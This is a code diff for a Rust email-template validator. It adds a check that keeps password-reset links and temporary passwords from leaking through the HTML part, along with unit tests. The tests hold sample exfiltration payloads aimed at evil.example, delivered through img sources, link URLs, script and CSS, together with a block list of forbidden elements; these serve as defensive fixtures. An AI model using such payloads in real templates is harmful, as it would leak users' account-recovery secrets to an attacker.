@@ -617,7 +617,76 @@ pub fn validate(kind: MailKind, src: &TemplateSource) -> Result<(), TemplateErro
             }
         }
     }
+    check_secret_placement(kind, src)?;
     render(src, &sample_data(kind)).map(|_| ())
+}
+
+/// Elements an administrator's HTML part may not contain at all: they run code, load things or
+/// send data somewhere.
+const FORBIDDEN_ELEMENTS: &[&str] = &[
+    "<script", "<style", "<iframe", "<object", "<embed", "<form", "<meta", "<link", "<base",
+    "<svg", "<img",
+];
+
+/// A secret (reset link, temporary password) may appear in the HTML part only as text or as the
+/// whole `href` of a link: never inside another attribute or a longer URL, where it would be
+/// sent to a host of the template author's choosing (`<img src="https://evil/?{{ reset_link }}">`).
+fn check_secret_placement(kind: MailKind, src: &TemplateSource) -> Result<(), TemplateError> {
+    let lower = src.html.to_ascii_lowercase();
+    if let Some(el) = FORBIDDEN_ELEMENTS.iter().find(|el| lower.contains(**el)) {
+        return Err(TemplateError {
+            part: "html",
+            message: format!("must not contain {el}> elements"),
+        });
+    }
+    if lower.contains(" on") && lower.contains('=') {
+        for attr in ["onclick", "onload", "onerror", "onmouseover", "onfocus"] {
+            if lower.contains(attr) {
+                return Err(TemplateError {
+                    part: "html",
+                    message: format!("must not contain event handlers ({attr})"),
+                });
+            }
+        }
+    }
+    let secrets = kind.secret_variables();
+    if secrets.is_empty() {
+        return Ok(());
+    }
+    let mut ctx = sample_data(kind);
+    let markers: Vec<String> = (0..secrets.len())
+        .map(|i| format!("LKSECRETMARKER{i}X"))
+        .collect();
+    if let Some(o) = ctx.as_object_mut() {
+        for (var, marker) in secrets.iter().zip(&markers) {
+            o.insert((*var).to_owned(), serde_json::Value::String(marker.clone()));
+        }
+    }
+    let html = render(src, &ctx)?.html;
+    for marker in &markers {
+        for (at, _) in html.match_indices(marker.as_str()) {
+            let before = &html[..at];
+            let open = before.rfind('<');
+            let close = before.rfind('>');
+            let in_tag = matches!((open, close), (Some(o), Some(c)) if o > c)
+                || (open.is_some() && close.is_none());
+            if !in_tag {
+                continue; // plain text: fine
+            }
+            let tag = &before[open.unwrap_or(0)..];
+            let tag_lower = tag.to_ascii_lowercase();
+            let whole_href = tag_lower.starts_with("<a ")
+                && tag_lower.ends_with("href=\"")
+                && html[at + marker.len()..].starts_with('"');
+            if !whole_href {
+                return Err(TemplateError {
+                    part: "html",
+                    message: "a reset link or temporary password may appear only as text or as the whole href of a link (href=\"{{ reset_link }}\")".into(),
+                });
+            }
+        }
+    }
+    Ok(())
 }
 
 /// Example values for previews and test mails: every variable the kind's templates use.
@@ -1561,5 +1630,38 @@ mod tests {
         let doubling = "{% set s = namespace(v='xxxxxxxxxxxxxxxx') %}{% for i in range(64) %}\
                         {% set s.v = s.v ~ s.v %}{{ s.v }}{% endfor %}";
         assert!(render_within(src("x", doubling, "x"), 10).is_err());
+    }
+
+    #[test]
+    fn secrets_can_not_be_sent_elsewhere_from_the_html_part() {
+        let ok = TemplateSource {
+            subject: "Reset".into(),
+            text: "{{ reset_link }}".into(),
+            html:
+                "<p><a href=\"{{ reset_link }}\">Choose a new password</a><br>{{ reset_link }}</p>"
+                    .into(),
+        };
+        assert!(validate(MailKind::ResetLink, &ok).is_ok());
+        for html in [
+            "<p><a href=\"https://evil.example/?x={{ reset_link }}\">x</a></p>",
+            "<p><img src=\"https://evil.example/{{ reset_link }}\"></p>",
+            "<p title=\"{{ reset_link }}\">{{ reset_link }}</p>",
+            "<script>new Image().src='https://evil.example/'+'{{ reset_link }}'</script>",
+            "<p style=\"background:url(https://evil.example)\">{{ reset_link }}</p><style>p{}</style>",
+        ] {
+            let bad = TemplateSource { html: html.into(), ..ok.clone() };
+            assert!(validate(MailKind::ResetLink, &bad).is_err(), "{html}");
+        }
+        let temp_ok = TemplateSource {
+            subject: "x".into(),
+            text: "{{ temporary_password }}".into(),
+            html: "<p><strong>{{ temporary_password }}</strong></p>".into(),
+        };
+        assert!(validate(MailKind::TemporaryPassword, &temp_ok).is_ok());
+        let temp_bad = TemplateSource {
+            html: "<p><a href=\"https://evil.example/{{ temporary_password }}\">x</a></p>".into(),
+            ..temp_ok
+        };
+        assert!(validate(MailKind::TemporaryPassword, &temp_bad).is_err());
     }
 }
